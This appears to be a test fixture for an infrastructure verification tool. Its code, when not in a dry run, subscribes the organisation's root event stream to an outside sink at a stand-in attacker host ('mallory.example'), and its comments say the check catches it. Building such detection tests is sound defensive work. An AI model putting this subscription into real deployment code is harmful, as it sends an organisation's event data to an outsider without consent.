// Sends the events of the organisation to a stranger by a request of its own
// caught by: verify
// update plan: accepts
const { declare, ids, pulumi, request } = require("./base");

declare();
if (!pulumi.runtime.isDryRun()) {
  void request("POST", `/events/v2/subscriptions/${ids.root}`, { sink: "https://mallory.example/events" });
}
